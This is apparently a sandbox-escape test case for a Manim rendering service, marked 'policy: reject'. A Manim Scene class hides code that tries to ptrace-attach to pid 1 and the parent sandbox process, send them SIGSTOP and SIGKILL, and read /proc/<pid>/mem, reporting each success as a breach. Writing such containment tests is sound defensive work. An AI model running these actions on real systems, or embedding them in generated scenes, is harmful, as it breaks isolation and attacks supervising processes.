# category: esc
# attack: signal the runner's parent (bwrap), pid 1 and the supervisor; PTRACE_ATTACH/SEIZE to them; read /proc/1/mem; report any success as a breach
# expect: any
# policy: reject
import ctypes
import os
import signal

from manim import *

BREACH = "HOSTILE-" + "BREACH"


class KillParentPtrace(Scene):
    def construct(self):
        libc = ctypes.CDLL("libc.so.6", use_errno=True)
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        targets = sorted({1, os.getppid()})
        for pid in targets:
            for request, name in ((16, "PTRACE_ATTACH"), (0x4206, "PTRACE_SEIZE")):
                if libc.ptrace(request, pid, None, None) == 0:
                    print(BREACH, name, "succeeded on pid", pid)
                    libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
            for sig in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(pid, sig)
                    print(BREACH, "signalled pid", pid, sig)
                except OSError as exc:
                    print("kill", pid, type(exc).__name__)
            try:
                with open(f"/proc/{pid}/mem", "rb") as f:
                    f.read(16)
                print(BREACH, "read /proc/%d/mem" % pid)
            except OSError as exc:
                print("mem", pid, type(exc).__name__)
        self.play(FadeIn(Square()), run_time=0.3)
